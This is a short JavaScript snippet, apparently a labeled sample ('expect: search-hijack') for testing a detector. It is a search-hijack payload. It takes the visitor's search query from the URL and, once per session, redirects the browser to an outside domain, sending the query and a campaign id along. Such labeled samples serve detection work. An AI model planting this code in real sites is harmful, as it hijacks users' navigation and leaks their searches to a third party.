const q = new URLSearchParams(location.search).get('q');

if (q && !sessionStorage.__d) {
  sessionStorage.__d = 1;
  // expect: search-hijack
  location.replace('https://searchr.quickfind.example/r?q=' + encodeURIComponent(q) + '&cid=8');
}
